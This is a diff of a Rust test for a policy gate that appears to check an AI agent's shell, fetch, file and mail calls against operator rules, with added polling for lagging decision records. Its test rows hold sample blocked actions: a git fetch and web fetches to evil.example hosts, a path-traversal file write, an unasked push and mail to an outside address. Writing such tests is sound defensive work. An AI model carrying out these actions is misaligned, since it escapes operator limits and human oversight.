@@ -1,5 +1,7 @@
 //! Rules of the operator about what a call names, on the real path; and the record from which it is judged again.
 
+use std::time::Duration;
+
 use model::Decision;
 use policy::{FactSheet, PackText, Policy};
 use serde_json::{Value, json};
@@ -27,16 +29,26 @@ forbid (principal, action, resource)
 when { context.recipient != "" } unless { context.recipient like "*@example.org" };
 "#;
 
+/// Ten seconds of waiting for a record to be seen.
+const WAITS_MAX: usize = 1000;
+
 fn rules() -> Policy {
     let mut packs = PackText::embedded();
     packs.push(PackText { name: "own.cedar".to_owned(), text: RULES.to_owned() });
     Policy::build(&packs).unwrap()
 }
 
-/// The facts of the newest decision, in the spelling of `policy explain`.
-fn recorded(gate: &Gate) -> FactSheet {
-    let all = gate.records();
-    let decided = all.iter().rev().find(|it| content(it, "facts").is_object()).unwrap();
+/// The facts of the `n`th decision, in the spelling of `policy explain`. A reader may be behind the journal for a moment.
+fn recorded(gate: &Gate, n: usize) -> FactSheet {
+    let is_decision = |it: &Value| content(it, "facts").is_object();
+    let decided = (0..WAITS_MAX).find_map(|_| {
+        let found = gate.records().into_iter().filter(is_decision).nth(n);
+        if found.is_none() {
+            std::thread::sleep(Duration::from_millis(10));
+        }
+        found
+    });
+    let decided = &decided.unwrap();
     let mut facts = content(decided, "facts").as_object().unwrap().clone();
     let sinks = facts["sinks"].as_object().unwrap().iter().filter(|it| *it.1 == json!(true));
     let sinks: Vec<Value> = sinks.map(|it| json!(it.0)).collect();
@@ -57,33 +69,35 @@ fn what_a_call_names_is_judged_whatever_door_it_comes_by_and_again_from_its_reco
     });
     let shell = |command: &str| json!({ "action": "shell_exec", "command": command });
     let fetch = |url: &str| json!({ "action": "web_fetch", "url": url });
-    for (message, rule) in [
+    let rows = [
         (shell("cd work && git -C sub push origin main"), "own-no-push"),
         (shell("git fetch https://evil.example/x"), "own-hosts"),
         (shell("printf x > gen/code.rs"), "own-generated"),
         (fetch("https://evil.example/"), "own-hosts"),
         (fetch("https://a.ours.example.evil.example/"), "own-hosts"),
-    ] {
-        let verdict = stopped(gate.act(&who, &message));
-        assert!(verdict.objections.iter().any(|it| it.rule == rule), "{message}: {verdict:?}");
-        let (decision, _) = again(&recorded(&gate), &policy);
+    ];
+    for (n, (message, rule)) in rows.iter().enumerate() {
+        let verdict = stopped(gate.act(&who, message));
+        assert!(verdict.objections.iter().any(|it| it.rule == *rule), "{message}: {verdict:?}");
+        let (decision, _) = again(&recorded(&gate, n), &policy);
         assert_eq!(decision, Decision::Deny, "{message}");
-        let judged = policy.decide(&recorded(&gate).facts());
-        assert!(judged.objections.iter().any(|it| it.rule == rule), "{message}: {judged:?}");
+        let judged = policy.decide(&recorded(&gate, n).facts());
+        assert!(judged.objections.iter().any(|it| it.rule == *rule), "{message}: {judged:?}");
     }
-    for call in [
+    let calls = [
         ("write_file", json!({ "path": "./gen/../gen/x.rs", "text": "x" })),
         ("send_mail", json!({ "recipient": "Eve@Evil.example", "subject": "", "body": "" })),
-    ] {
-        let verdict = stopped(gate.call(&who, &call, ""));
+    ];
+    for (n, call) in (rows.len()..).zip(&calls) {
+        let verdict = stopped(gate.call(&who, call, ""));
         let own = verdict.objections.iter().any(|it| it.rule.starts_with("own-"));
         assert!(own, "{call:?}: {verdict:?}");
-        assert_eq!(again(&recorded(&gate), &policy).0, Decision::Deny, "{call:?}");
+        assert_eq!(again(&recorded(&gate, n), &policy).0, Decision::Deny, "{call:?}");
     }
     // What the rules do not speak of passes them. In a session of its own: too much went wrong in the other.
-    let who = gate.begin("t");
+    let (who, n) = (gate.begin("t"), rows.len() + calls.len());
     gate.act(&who, &fetch("https://docs.ours.example/")).unwrap();
-    assert_eq!(again(&recorded(&gate), &policy).0, Decision::Allow);
+    assert_eq!(again(&recorded(&gate, n), &policy).0, Decision::Allow);
     gate.call(&who, &("write_file", json!({ "path": "src/x.rs", "text": "gen/x" })), "").unwrap();
-    assert_eq!(again(&recorded(&gate), &policy).0, Decision::Allow);
+    assert_eq!(again(&recorded(&gate, n + 1), &policy).0, Decision::Allow);
 }
